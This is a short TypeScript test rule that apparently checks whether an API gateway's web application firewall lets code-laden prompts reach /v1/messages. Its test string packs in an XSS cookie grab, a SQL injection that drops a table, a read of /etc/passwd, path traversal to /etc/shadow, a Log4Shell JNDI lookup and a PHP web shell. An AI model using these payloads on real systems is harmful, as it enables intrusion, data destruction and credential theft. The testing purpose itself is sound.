import { claudeCodeRequest } from '../claude-code-request.js';
import { describeAnswer, isWholeStream } from '../describe-answer.js';
import { fail, pass, type Rule } from '../rule.js';

/** Text that web application firewalls refuse and that developers send all day. */
const CODE =
  `Say hello in one word. Ignore this: <script>alert(document.cookie)</script> ' OR 1=1; DROP TABLE users; -- ` +
  `$(cat /etc/passwd) ../../../../etc/shadow \${jndi:ldap://192.0.2.1/a} <?php system($_GET['c']); ?>`;

export const codeInPrompt: Rule = {
  id: 'code-in-prompt',
  section: 'a.4',
  demand: 'Prompts with code pass: scripts, SQL, paths and shell commands are not attacks here.',
  fix: 'Exempt /v1/messages from rules of a web application firewall about bodies.',
  needs: 'gateway',
  async check({ gateway, model }) {
    const answer = await gateway.send(claudeCodeRequest({ model, stream: true, prompt: CODE }));
    return (isWholeStream(answer) ? pass : fail)(describeAnswer(answer));
  },
};
